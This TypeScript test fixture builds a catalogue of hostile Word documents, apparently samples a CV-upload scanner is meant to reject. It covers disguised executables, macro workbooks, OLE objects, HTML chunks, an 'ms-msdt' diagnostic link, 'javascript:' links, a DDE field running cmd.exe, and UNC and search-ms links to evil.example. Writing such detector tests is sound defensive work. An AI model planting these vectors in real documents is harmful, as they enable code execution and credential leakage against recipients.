import { contentTypes, docx, paragraph, relationship, relationships } from './docx.ts'
import type { HostileFile } from './hostile.ts'
import { zip } from './zip.ts'

const active = (what: string, ...parts: Parameters<typeof docx>[0] & object): HostileFile => ({
  what,
  name: 'cv.docx',
  bytes: docx(parts),
  issue: 'file_active_content',
})

const rels = (...items: string[]) => ({
  name: 'word/_rels/document.xml.rels',
  content: relationships(...items),
})
const of = (type: string, target: string, mode = '') => rels(relationship(type, target, mode))
const link = (target: string) => of('hyperlink', target, 'External')
const microsoft = (type: string, target: string) =>
  `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/${type}" Target="${target}"/>`

const declared = (...more: string[]) => ({
  name: '[Content_Types].xml',
  content: contentTypes().replace('</Types>', `${more.join('')}</Types>`),
})
const extension = (name: string, type: string) => `<Default Extension="${name}" ContentType="${type}"/>`

const program = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(500)])
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1000)])
const html = '<html><body><script>alert(1)</script></body></html>'
const workbook = zip([{ name: 'xl/vbaProject.bin', content: 'Sub Auto_Open' }])
const macroSheet = 'application/vnd.ms-excel.sheet.macroEnabled.12'
const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const field = (...runs: string[]) =>
  paragraph('x').replace(
    '<w:t>x</w:t>',
    `<w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:instrText>${run}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`,
  )

export const hostileDocuments: HostileFile[] = [
  active(
    'a program among its embedded objects',
    declared(extension('exe', 'application/octet-stream')),
    of('package', 'embeddings/setup.exe'),
    { name: 'word/embeddings/setup.exe', content: program },
  ),
  active(
    'a program that is named a picture',
    declared(extension('png', 'image/png')),
    of('image', 'media/image1.png'),
    { name: 'word/media/image1.png', content: program },
  ),
  active(
    'a workbook with macros among its embedded objects',
    declared(extension('xlsm', macroSheet)),
    of('package', 'embeddings/Microsoft_Excel_Worksheet.xlsm'),
    { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsm', content: workbook },
  ),
  active(
    'a workbook behind a chart',
    declared(extension('xlsx', sheet)),
    { name: 'word/charts/_rels/chart1.xml.rels', content: of('package', '../embeddings/Sheet.xlsx').content },
    { name: 'word/embeddings/Sheet.xlsx', content: zip([{ name: 'xl/workbook.xml', content: '<x/>' }]) },
  ),
  active(
    'an OLE object that is named a picture',
    declared(extension('png', 'image/png')),
    of('image', 'media/image1.png'),
    { name: 'word/media/image1.png', content: ole },
  ),
  active('an OLE object of any part', of('oleObject', 'media/data.xml'), {
    name: 'word/media/data.xml',
    content: '<x/>',
  }),
  active('a web page as a chunk', declared(extension('htm', 'text/html')), of('aFChunk', 'chunk.htm'), {
    name: 'word/chunk.htm',
    content: html,
  }),
  active('a web page as a chunk of XML', of('aFChunk', 'chunk.xml'), {
    name: 'word/chunk.xml',
    content: html,
  }),
  active('a part of a type that no text has', declared(extension('hta', 'application/hta')), {
    name: 'word/x.hta',
    content: html,
  }),
  active('a part that nothing declares', { name: 'word/setup.exe', content: program }),
  active('a link that starts the diagnostics of Windows', link('ms-msdt:/id PCWDiagnostic /skip force')),
  active('a link that is a script', link('javascript:alert(1)')),
  active('a link that is a script, in references', link('java&#115;cript:alert(1)')),
  active('a link to a file', link('file:///C:/Windows/System32/calc.exe')),
  active('a link to a network share', link('\\\\evil.example\\share\\x')),
  active('a link to a search of Windows', link('search-ms:query=x&amp;crumb=location:\\\\evil.example')),
  active(
    'a control of the strict kind',
    rels(
      '<Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/control" Target="x.xml"/>',
    ),
  ),
  active('a task pane', {
    name: '_rels/.rels',
    content: relationships(
      relationship('officeDocument', 'word/document.xml'),
      microsoft('2011/relationships/webextensiontaskpanes', 'word/webextensions/taskpanes.xml'),
    ),
  }),
  active('buttons of its own', {
    name: '_rels/.rels',
    content: relationships(
      relationship('officeDocument', 'word/document.xml'),
      microsoft('2007/relationships/ui/extensibility', 'customUI/customUI14.xml'),
    ),
  }),
  active('a document inside of the document', of('subDocument', 'part.xml')),
  active('a film', of('video', 'https://evil.example/film.mp4', 'External')),
  active('a command of another program in a field', {
    name: 'word/document.xml',
    content: field(' DDE', 'AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc" '),
  }),
  active('a picture on a network share in a field', {
    name: 'word/document.xml',
    content: field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\x.png" '),
  }),
  active('a script as the link of a field', {
    name: 'word/footer1.xml',
    content: '<w:p xmlns:w="x"><w:fldSimple w:instr=" HYPERLINK &quot;javascript:alert(1)&quot; "/></w:p>',
  }),
]
